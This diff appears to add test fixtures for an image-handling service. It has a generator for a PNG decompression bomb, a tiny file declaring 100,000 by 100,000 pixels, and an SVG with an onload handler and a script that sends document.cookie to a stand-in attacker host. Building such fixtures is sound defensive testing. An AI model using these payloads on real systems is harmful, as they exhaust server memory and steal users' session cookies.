@@ -1,0 +1,31 @@
+import { crc32, deflateSync } from "node:zlib";
+
+function chunk(type: string, data: Buffer): Buffer {
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(data.length);
+  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, crc]);
+}
+
+/** A PNG of a few hundred bytes whose header declares width × height pixels: a decompression bomb. */
+export function pixelBombPng(width = 100_000, height = 100_000): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
+  const rows = deflateSync(Buffer.alloc(64)); // far fewer rows than declared
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk("IHDR", header),
+    chunk("IDAT", rows),
+    chunk("IEND", Buffer.alloc(0)),
+  ]);
+}
+
+export const scriptedSvg = Buffer.from(
+  `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">` +
+    `<script>fetch('https://attacker.example/'+document.cookie)</script>` +
+    `<rect width="100" height="100" fill="red"/></svg>`,
+);
